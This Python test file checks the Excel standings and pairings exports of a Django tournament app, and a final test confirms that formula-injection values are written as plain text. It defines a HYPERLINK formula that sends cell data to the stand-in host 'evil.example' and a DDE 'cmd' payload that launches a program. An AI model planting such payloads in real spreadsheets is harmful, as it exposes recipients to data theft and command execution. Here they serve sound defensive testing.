"""Standings and pairings to .xlsx, opened again with openpyxl."""

from __future__ import annotations

import pytest
from django.utils import translation

from tests.readers import workbook
from tournaments.errors import ExportError
from tournaments.exporters.pairings import PairingsXlsx
from tournaments.exporters.standings_xlsx import StandingsXlsx

pytestmark = pytest.mark.django_db


def test_standings_xlsx_has_a_sheet_per_finished_round_and_the_final(chinese_event):
    with translation.override("en"):
        export = StandingsXlsx(chinese_event).render()
    book = workbook(export.data)
    assert export.filename == "suzhou-open-standings.xlsx"
    assert book.sheetnames == ["Round 1", "Round 2", "Final"]


def test_standings_xlsx_rows_are_typed_ranked_and_chinese(chinese_event):
    with translation.override("en"):
        book = workbook(StandingsXlsx(chinese_event).render().data)
    sheet = book["Final"]
    assert sheet["A1"].value == "Standings"
    assert sheet["A2"].value == "苏州掼蛋公开赛"
    header = [cell.value for cell in sheet[3]]
    assert header[:4] == ["Rank", "Team", "Unit", "Points"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4)]
    assert len(rows) == 8
    # 龙城队 won both rounds as home: 13 + 13 points, first place
    assert rows[0][:4] == [1, "龙城队", "苏州", 26]
    assert isinstance(rows[0][0], int) and isinstance(rows[0][3], int)
    assert [row[0] for row in rows] == sorted(row[0] for row in rows)


def test_standings_xlsx_freezes_the_header_and_sizes_columns(chinese_event):
    book = workbook(StandingsXlsx(chinese_event).render().data)
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A4"
    assert sheet.column_dimensions["B"].width >= 20


def test_standings_after_round_one_differ_from_final(chinese_event):
    with translation.override("en"):
        book = workbook(StandingsXlsx(chinese_event).render().data)
    first = {row[1].value: row[3].value for row in book["Round 1"].iter_rows(min_row=4)}
    final = {row[1].value: row[3].value for row in book["Final"].iter_rows(min_row=4)}
    assert first["龙城队"] == 13 and final["龙城队"] == 26
    assert first["姑苏队"] == 7


def test_pairings_xlsx_lists_tables_home_away_and_results(chinese_event):
    with translation.override("en"):
        export = PairingsXlsx(chinese_event, round="1").render()
    sheet = workbook(export.data).worksheets[0]
    assert sheet["A1"].value == "Pairings of round 1"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4)]
    assert rows[0] == [1, "龙城队", "苏州", "姑苏队", "无锡", "13 : 7"]
    assert len(rows) == 4


def test_pairings_xlsx_shows_a_bye(chinese_event):
    from tests.factories import add_round

    teams = chinese_event.teams_in_order
    add_round(chinese_event, 4, [(teams[0], teams[1])], status="published", bye=teams[2])
    with translation.override("en"):
        sheet = workbook(PairingsXlsx(chinese_event, round=4).render().data).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4)]
    assert rows[-1][1] == "金陵队" and rows[-1][3] == "Bye" and rows[-1][0] is None


@pytest.mark.parametrize("value", ["x", "0", None])
def test_pairings_export_names_a_bad_round(chinese_event, value):
    with pytest.raises(ExportError) as caught:
        PairingsXlsx(chinese_event, round=value)
    assert caught.value.field == "round"


def test_pairings_export_of_a_missing_round_says_so(chinese_event):
    with translation.override("en"), pytest.raises(ExportError, match="no round 9"):
        PairingsXlsx(chinese_event, round=9)


def test_unknown_export_parameter_is_named(chinese_event):
    with pytest.raises(ExportError) as caught:
        StandingsXlsx(chinese_event, colour="red")
    assert caught.value.field == "colour"


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "=cmd|' /C calc'!A0"


def _cells(data: bytes):
    import io
    import zipfile

    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets_xml = b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )
    book = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as such
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return sheets_xml, cells


def test_formula_cells_written_as_text(chinese_event):
    """A team named =HYPERLINK(…) and a unit =cmd|… are text cells (quote-prefixed) in the
    public standings and pairings spreadsheets; no cell is a formula; numbers stay numbers."""
    from tournaments.models import Team

    first, second = chinese_event.teams_in_order[:2]
    Team.objects.filter(pk=first.pk).update(name=HYPERLINK)
    first.unit.name = CMD
    first.unit.save()
    Team.objects.filter(pk=second.pk).update(name="+1-2")
    others = {"@SUM(A1)", "-3+4", "\tTAB", "\rCR"}
    for name, team in zip(sorted(others), chinese_event.teams_in_order[2:6], strict=True):
        Team.objects.filter(pk=team.pk).update(name=name)
    for export in (
        StandingsXlsx(chinese_event).render(),
        PairingsXlsx(chinese_event, round="1").render(),
    ):
        xml, cells = _cells(export.data)
        assert b"<f>" not in xml and b"<f " not in xml
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        by_value = {cell.value: cell for cell in cells if cell.value is not None}
        for value in (HYPERLINK, CMD, "+1-2", *others):
            cell = by_value[value.replace("\r", "\n")]  # the name kept (XML reads CR as LF)
            assert cell.data_type == "s" and cell.quotePrefix, value
        numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
        assert numbers and all(isinstance(value, int | float) for value in numbers)
    book = workbook(StandingsXlsx(chinese_event).render().data)
    rows = list(book["Final"].iter_rows(min_row=4, values_only=True))
    assert all(isinstance(row[0], int) for row in rows)  # ranks are numbers
